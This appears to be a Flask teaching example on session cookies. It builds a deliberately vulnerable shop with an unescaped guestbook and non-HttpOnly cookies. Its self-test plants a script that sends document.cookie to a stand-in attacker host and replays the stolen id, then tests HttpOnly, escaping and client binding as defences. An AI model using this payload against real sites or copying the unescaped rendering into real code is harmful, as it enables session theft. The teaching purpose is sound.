"""Chapter 12 in Flask: what a script is shown of a cookie, what it can do all the same, and what binding notices."""

import secrets

from flask import Flask, make_response, request
from markupsafe import escape

app = Flask(__name__)
rows, entries, emails = {}, [], {"ada": "ada@shop.example"}
http_only = escapes = False
bound_to = None


def property_of_client():
    if bound_to == "address":
        return request.remote_addr
    if bound_to == "user-agent":
        return request.headers.get("User-Agent")
    return None


def current_user():
    row = rows.get(request.cookies.get("sid"))
    if row is None or row["bound"] != property_of_client():
        return None
    return row["username"]


@app.post("/login")
def login():
    sid = secrets.token_urlsafe(16)
    rows[sid] = {"username": request.form["username"], "bound": property_of_client()}
    answer = make_response("Welcome")
    answer.set_cookie("sid", sid, httponly=http_only)
    return answer


@app.get("/guestbook")
def guestbook():
    return "".join(f"<p>{escape(entry) if escapes else entry}</p>" for entry in entries)


@app.post("/email")
def change_email():
    if current_user() is None:
        return "Who are you?", 401
    emails[current_user()] = request.form["email"]
    return emails[current_user()]


if __name__ == "__main__":
    HERS, MALLORYS, ELSEWHERE = "Adas-browser", "Mallorys-browser", "203.0.113.7"
    # Without a jar: every request brings exactly what stands here.
    client = app.test_client(use_cookies=False)

    def log_in():
        answer = client.post("/login", data={"username": "ada"}, headers={"User-Agent": HERS})
        return answer.headers["Set-Cookie"]

    def change(cookie, agent=HERS, address="127.0.0.1"):
        fields = {"email": "by-script@mallory.example"}
        headers = {"Cookie": cookie, "User-Agent": agent}
        return client.post("/email", data=fields, headers=headers, environ_base={"REMOTE_ADDR": address}).status_code

    def shown_to_scripts(line):
        """document.cookie, as browsers make it."""
        return "" if "HttpOnly" in line else line.split(";")[0]

    entries.append("<script>new Image().src = 'https://mallory.example/?' + document.cookie</script>")
    assert "<script>" in client.get("/guestbook").text, "the shop lets the script in"
    stolen = shown_to_scripts(log_in())
    assert change(stolen, MALLORYS, ELSEWHERE) == 200, "with what the script was shown Mallory is ada"
    assert change("sid=" + secrets.token_urlsafe(16)) == 401, "with an id that she made up she is nobody"

    http_only = True
    line = log_in()
    assert shown_to_scripts(line) == "", "HttpOnly hides the id"
    # A script in ada’s page sends the form; the browser adds the cookie by itself.
    assert change(line.split(";")[0]) == 200, "and not the power"

    escapes = True
    assert "<script>" not in client.get("/guestbook").text, "the cure is to have no such hole"

    bound_to = "address"
    cookie = log_in().split(";")[0]
    assert change(cookie, MALLORYS) == 200, "behind the same router a thief is in"
    assert change(cookie, MALLORYS, ELSEWHERE) == 401, "from elsewhere she is out"
    assert change(cookie, HERS, ELSEWHERE) == 401, "and so is ada, on another network"
    bound_to = "user-agent"
    cookie = log_in().split(";")[0]
    assert change(cookie, MALLORYS) == 401, "another User-Agent is noticed"
    assert change(cookie, HERS, ELSEWHERE) == 200, "and is copied like any header"
    print("HttpOnly hides the id, not the power; address checks notice theft, they do not prevent it.")
